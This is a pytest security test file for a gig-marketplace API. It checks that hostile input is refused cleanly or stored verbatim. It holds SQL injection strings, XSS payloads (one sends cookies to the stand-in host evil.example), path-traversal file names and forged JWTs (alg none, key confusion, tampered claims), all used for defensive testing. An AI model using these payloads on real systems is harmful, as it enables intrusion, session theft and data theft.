"""Hostile input against the real domain routes: every case is refused cleanly (the contract's envelope,
a 4xx, no stack trace or SQL) or stored verbatim and handed back as JSON, and nothing is half-written.

Complements test_envelope.py (the envelope on a test router) and test_auth_tokens.py (forged tokens on
a test route): here the same attacks go through the composed app's own routes and services.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa

from shared.config import get_settings
from shared.db import Conn
from shared.providers.storage import LocalStorage, set_storage
from tests.factories.marketplace import create_gig
from tests.factories.users import TestUser, as_owner, create_user

API = "/api/v1"
LEAKS = ("Traceback", "psycopg", "syntax error", "select ", "insert into", 'File "', "ugig-local-")

# What attackers paste into text fields: SQL, markup, script, format strings, template syntax, unicode tricks.
HOSTILE = [
    "'; drop table public.gigs; --",
    "Robert'); delete from auth.users where ('1'='1",
    "<script>alert('xss')</script><img src=x onerror=alert(1)>",
    '"><svg/onload=fetch("//evil.example/"+document.cookie)>',
    "%s%s%s%n {0} {{7*7}} ${7*7} #{7*7}",
    "\u202e\u200bRight-to-left override and zero width \U0001f600 emoji",
    "x' or 1=1 union select email, encrypted_password from auth.users --",
]


def assert_refused(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/json")
    body: dict[str, Any] = response.json()
    assert body["success"] is False
    assert body["error"]["code"] == code
    assert body["traceId"] == response.headers["x-request-id"]
    for leak in LEAKS:
        assert leak not in response.text
    return body


async def gig_count(conn: Conn) -> int:
    await as_owner(conn)
    cur = await conn.execute("select count(*) as n from public.gigs")
    row = await cur.fetchone()
    assert row is not None
    return int(row["n"])


def gig_body(**changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "title": "Build a RAG chatbot for our docs",
        "description": "Index our product documentation and answer customer questions with citations.",
        "category": "ai-development",
        "skills_required": ["python"],
        "ai_tools_preferred": ["chatgpt"],
        "budget_type": "fixed",
        "budget_min": 1000,
        "budget_max": 3000,
        "location_type": "remote",
    }
    body.update(changes)
    return body


# -- oversized, deep, badly encoded bodies -------------------------------------------------------


async def test_oversized_body_is_413_before_anything_is_written(
    client: httpx.AsyncClient, conn: Conn, user: TestUser
) -> None:
    before = await gig_count(conn)
    huge = json.dumps(gig_body(description="x" * (27 * 1024 * 1024))).encode()
    response = await client.post(
        f"{API}/gigs", content=huge, headers={**user.headers, "content-type": "application/json"}
    )
    assert_refused(response, 413, "PAYLOAD_TOO_LARGE")
    assert await gig_count(conn) == before


async def test_oversized_body_without_content_length_is_413(client: httpx.AsyncClient, user: TestUser) -> None:
    async def chunks() -> AsyncIterator[bytes]:
        yield b'{"title": "'
        for _ in range(28):
            yield b"x" * (1024 * 1024)
        yield b'"}'

    response = await client.post(
        f"{API}/gigs", content=chunks(), headers={**user.headers, "content-type": "application/json"}
    )
    assert_refused(response, 413, "PAYLOAD_TOO_LARGE")


async def test_long_field_under_the_body_limit_is_a_field_error(client: httpx.AsyncClient, user: TestUser) -> None:
    response = await client.post(f"{API}/gigs", json=gig_body(title="t" * 1_000_000), headers=user.headers)
    body = assert_refused(response, 400, "VALIDATION_ERROR")
    assert "title" in body["error"]["fields"]


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(b'{"title": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", id="deep-arrays"),
        pytest.param(b'{"a":' * 50_000 + b"1" + b"}" * 50_000, id="deep-objects"),
        pytest.param(b'{"title": "\xff\xfe\xfd not utf-8", "description": "x"}', id="invalid-utf8"),
        pytest.param(b'{"title": "\xed\xa0\x80 lone surrogate"}', id="surrogate-bytes"),
        pytest.param(b'{"budget_min": 1' + b"0" * 5000 + b"}", id="huge-integer"),
        pytest.param(b'{"title": "unterminated', id="truncated"),
        pytest.param(b"\x00\x01\x02\x03", id="binary"),
        pytest.param(b"", id="empty"),
    ],
)
async def test_malformed_json_is_a_clean_400(
    client: httpx.AsyncClient, conn: Conn, user: TestUser, payload: bytes
) -> None:
    before = await gig_count(conn)
    response = await client.post(
        f"{API}/gigs", content=payload, headers={**user.headers, "content-type": "application/json"}
    )
    assert_refused(response, 400, "VALIDATION_ERROR")
    assert await gig_count(conn) == before


async def test_deep_json_in_a_nested_field_is_a_clean_400(client: httpx.AsyncClient, user: TestUser) -> None:
    deep: Any = "x"
    for _ in range(500):
        deep = [deep]
    response = await client.post(f"{API}/gigs", json=gig_body(skills_required=deep), headers=user.headers)
    assert_refused(response, 400, "VALIDATION_ERROR")


@pytest.mark.parametrize(
    "query",
    ["search=%FF%FE%FD", "search=%ED%A0%80", "category=%C0%AF", "skills=%FF,%FE", "sort=%FF"],
)
async def test_invalid_utf8_in_the_query_string_never_500(client: httpx.AsyncClient, query: str) -> None:
    response = await client.get(f"{API}/gigs?{query}")
    assert response.status_code in (200, 400), response.text
    body = response.json()
    assert body["success"] is (response.status_code == 200)
    for leak in LEAKS:
        assert leak not in response.text


@pytest.mark.parametrize("path", [f"{API}/gigs/%FF%FE", f"{API}/profiles/%ED%A0%80", f"{API}/gigs/..%2F..%2Fetc"])
async def test_invalid_utf8_and_traversal_in_the_path_are_refused(client: httpx.AsyncClient, path: str) -> None:
    response = await client.get(path)
    assert response.status_code in (400, 404), response.text
    assert response.json()["success"] is False


async def test_nul_characters_are_refused_not_mistaken_for_an_outage(
    client: httpx.AsyncClient, conn: Conn, user: TestUser
) -> None:
    # Postgres text cannot hold U+0000; the driver refuses it before sending. That is bad input (400),
    # not "database unavailable" (503), which would tell clients to retry forever.
    before = await gig_count(conn)
    response = await client.post(f"{API}/gigs", json=gig_body(title="Build a bot\u0000 now"), headers=user.headers)
    assert_refused(response, 400, "VALIDATION_ERROR")
    assert await gig_count(conn) == before
    assert_refused(await client.get(f"{API}/gigs", params={"search": "bot\u0000"}), 400, "VALIDATION_ERROR")
    patched = await client.patch(f"{API}/profiles/me", json={"bio": "hello\u0000world"}, headers=user.headers)
    assert_refused(patched, 400, "VALIDATION_ERROR")


# -- SQL and markup in every text field: stored verbatim, returned as JSON, never executed ----------


@pytest.mark.parametrize("text", HOSTILE)
async def test_hostile_text_in_every_gig_field_is_stored_verbatim(
    client: httpx.AsyncClient, conn: Conn, user: TestUser, text: str
) -> None:
    fields = {
        "title": ("Gig " + text)[:150],
        "description": ("Description that is long enough: " + text)[:10000],
        "duration": text[:100],
        "location": text[:200],
        "skills_required": [text[:50].lower()],
        "ai_tools_preferred": [text[:50].lower()],
    }
    created = await client.post(f"{API}/gigs", json=gig_body(**fields), headers=user.headers)
    assert created.status_code == 201, created.text
    assert created.headers["content-type"].startswith("application/json")
    gig = created.json()["data"]
    fetched = await client.get(f"{API}/gigs/{gig['id']}", headers=user.headers)
    assert fetched.status_code == 200, fetched.text
    for name, value in fields.items():
        assert gig[name] == value
        assert fetched.json()["data"][name] == value
    # The text is searchable as text, and searching for it executes nothing.
    found = await client.get(f"{API}/gigs", params={"search": text})
    assert found.status_code == 200, found.text
    await as_owner(conn)
    cur = await conn.execute("select to_regclass('public.gigs') is not null as still_there")
    row = await cur.fetchone()
    assert row is not None and row["still_there"]


@pytest.mark.parametrize("text", HOSTILE[:4])
async def test_hostile_text_in_profile_application_message_and_organization(
    client: httpx.AsyncClient, conn: Conn, user: TestUser, other_user: TestUser, text: str
) -> None:
    profile = await client.patch(
        f"{API}/profiles/me",
        json={"full_name": text[:100], "bio": text, "location": text[:100], "timezone": text[:64]},
        headers=user.headers,
    )
    assert profile.status_code == 200, profile.text
    mine = (await client.get(f"{API}/profiles/me", headers=user.headers)).json()["data"]
    assert (mine["full_name"], mine["bio"], mine["location"], mine["timezone"]) == (
        text[:100],
        text,
        text[:100],
        text[:64],
    )

    gig_id = await create_gig(conn, other_user)
    letter = "I can do this well. " + text
    applied = await client.post(
        f"{API}/applications",
        json={"gig_id": str(gig_id), "cover_letter": letter, "proposed_timeline": text[:200]},
        headers=user.headers,
    )
    assert applied.status_code == 201, applied.text
    assert applied.json()["data"]["cover_letter"] == letter
    assert applied.json()["data"]["proposed_timeline"] == text[:200]

    conversation = await client.post(
        f"{API}/conversations", json={"participant_id": str(other_user.id)}, headers=user.headers
    )
    assert conversation.status_code in (200, 201), conversation.text
    conv_id = conversation.json()["data"]["id"]
    sent = await client.post(f"{API}/conversations/{conv_id}/messages", json={"content": text}, headers=user.headers)
    assert sent.status_code == 201, sent.text
    history = await client.get(f"{API}/conversations/{conv_id}/messages", headers=other_user.headers)
    assert [m["content"] for m in history.json()["data"]["items"]] == [text]

    org = await client.post(f"{API}/organizations", json={"name": text[:100]}, headers=user.headers)
    assert org.status_code == 201, org.text
    assert org.json()["data"]["name"] == text[:100].strip()


# -- path traversal in upload names -------------------------------------------------------------------

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82"
)


@pytest.fixture
def storage(tmp_path: Path) -> Iterator[LocalStorage]:
    local = LocalStorage(tmp_path / "store", "http://testserver", b"test-key")
    set_storage(local)
    yield local
    set_storage(None)


def files_under(folder: Path) -> list[Path]:
    return [p.resolve() for p in folder.rglob("*") if p.is_file()]


@pytest.mark.parametrize(
    "name",
    [
        "../../../../etc/passwd.png",
        "..\\..\\..\\windows\\system32\\evil.png",
        "/absolute/path/evil.png",
        "%2e%2e%2f%2e%2e%2fevil.png",
        "....//....//evil.png",
        "evil\u0000.png",
        "\u202egnp.exe",
        "..",
    ],
)
async def test_traversal_in_upload_names_never_leaves_the_uploaders_folder(
    client: httpx.AsyncClient, user: TestUser, storage: LocalStorage, tmp_path: Path, name: str
) -> None:
    response = await client.post(
        f"{API}/uploads", files={"file": (name, PNG, "image/png")}, data={"folder": "avatars"}, headers=user.headers
    )
    assert response.status_code in (201, 400), response.text
    if response.status_code == 400:
        assert_refused(response, 400, "VALIDATION_ERROR")
    else:
        stored_name = response.json()["data"]["name"]
        assert "/" not in stored_name and "\\" not in stored_name and stored_name not in ("..", ".")
        assert "\u0000" not in stored_name
    # Whatever happened, every byte written is inside the storage root, under this user's folder.
    root = (tmp_path / "store").resolve()
    written = files_under(tmp_path)
    assert all(root in p.parents for p in written), written
    assert all(str(user.id) in p.relative_to(root).parts for p in written), written


# -- forged tokens against real routes: refused, and nothing written ----------------------------------

_READ_ROUTES = [f"{API}/me/gigs", f"{API}/profiles/me", f"{API}/conversations", f"{API}/notifications"]


def _forged_tokens(user: TestUser) -> dict[str, str]:
    secret = get_settings().supabase_jwt_secret
    assert secret is not None
    now = int(time.time())
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = rsa_key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    header = jwt.utils.base64url_encode(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    payload = jwt.utils.base64url_encode(json.dumps(user.claims).encode())
    hs_with_public = b".".join(
        [header, payload, jwt.utils.base64url_encode(hmac.new(pem, header + b"." + payload, hashlib.sha256).digest())]
    ).decode()
    none_header = jwt.utils.base64url_encode(json.dumps({"alg": "none", "typ": "JWT"}).encode())
    return {
        "alg-none": jwt.encode(user.claims, None, algorithm="none"),
        "alg-none-with-signature": (none_header + b"." + payload + b".c2lnbmF0dXJl").decode(),
        "hs256-signed-with-public-key": hs_with_public,
        "expired": jwt.encode({**user.claims, "exp": now - 10, "iat": now - 3600}, secret.get_secret_value()),
        "another-projects-secret": jwt.encode(user.claims, "another-supabase-projects-jwt-secret-0123456789"),
        "another-projects-es256-key": jwt.encode(
            user.claims, ec.generate_private_key(ec.SECP256R1()), algorithm="ES256", headers={"kid": "k1"}
        ),
        "service-role-claim": jwt.encode({**user.claims, "role": "service_role"}, secret.get_secret_value()),
        "tampered-payload": ".".join(
            [
                user.token.split(".")[0],
                jwt.utils.base64url_encode(json.dumps({**user.claims, "user_role": "superadmin"}).encode()).decode(),
                user.token.split(".")[2],
            ]
        ),
    }


FORGERIES = [
    "alg-none",
    "alg-none-with-signature",
    "hs256-signed-with-public-key",
    "expired",
    "another-projects-secret",
    "another-projects-es256-key",
    "service-role-claim",
    "tampered-payload",
]


@pytest.mark.parametrize("forgery", FORGERIES)
async def test_forged_tokens_are_refused_by_real_routes_and_write_nothing(
    client: httpx.AsyncClient, conn: Conn, user: TestUser, forgery: str
) -> None:
    token = _forged_tokens(user)[forgery]
    headers = {"Authorization": f"Bearer {token}"}
    for path in _READ_ROUTES:
        assert_refused(await client.get(path, headers=headers), 401, "UNAUTHORIZED")
    before = await gig_count(conn)
    assert_refused(await client.post(f"{API}/gigs", json=gig_body(), headers=headers), 401, "UNAUTHORIZED")
    assert_refused(
        await client.patch(f"{API}/profiles/me", json={"bio": "pwned"}, headers=headers), 401, "UNAUTHORIZED"
    )
    # A public route refuses a bad token too: never silently anonymous.
    assert_refused(await client.get(f"{API}/gigs", headers=headers), 401, "UNAUTHORIZED")
    assert await gig_count(conn) == before
    cur = await conn.execute("select bio from public.profiles where id = %s", (user.id,))
    row = await cur.fetchone()
    assert row is not None and row["bio"] != "pwned"


async def test_a_token_for_one_user_cannot_be_replayed_as_another(
    client: httpx.AsyncClient, conn: Conn, user: TestUser
) -> None:
    victim = await create_user(conn)
    secret = get_settings().supabase_jwt_secret
    assert secret is not None
    # Correctly signed (a leaked secret is out of scope), but the session belongs to someone else.
    claims = {**user.claims, "sub": str(victim.id), "email": victim.email}
    token = jwt.encode(claims, secret.get_secret_value())
    response = await client.patch(
        f"{API}/profiles/me", json={"bio": "pwned"}, headers={"Authorization": f"Bearer {token}"}
    )
    assert_refused(response, 401, "UNAUTHORIZED")
    await as_owner(conn)
    cur = await conn.execute("select bio from public.profiles where id = %s", (victim.id,))
    row = await cur.fetchone()
    assert row is not None and row["bio"] is None


async def test_unknown_random_ids_never_500(client: httpx.AsyncClient, user: TestUser) -> None:
    for path in (f"{API}/gigs/{uuid.uuid4()}", f"{API}/conversations/{uuid.uuid4()}/messages"):
        assert_refused(await client.get(path, headers=user.headers), 404, "NOT_FOUND")
